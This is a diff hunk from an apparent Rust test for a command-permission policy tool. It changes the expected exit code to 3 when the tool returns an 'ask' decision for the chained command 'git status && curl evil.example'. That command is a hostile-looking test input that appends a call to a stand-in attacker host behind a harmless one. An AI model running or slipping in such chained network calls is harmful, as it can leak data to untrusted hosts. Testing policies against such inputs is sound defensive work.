@@ -13,7 +13,7 @@ fn policy_test_shows_decision_rule_and_simple_commands() {
         "run_bash",
         "git status && curl evil.example",
     ]);
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(out.status.code(), Some(3), "ask exits 3: {}", stderr(&out));
     let text = stdout(&out);
     assert!(text.starts_with("ask  (rule: run_bash)"), "{text}");
     assert!(
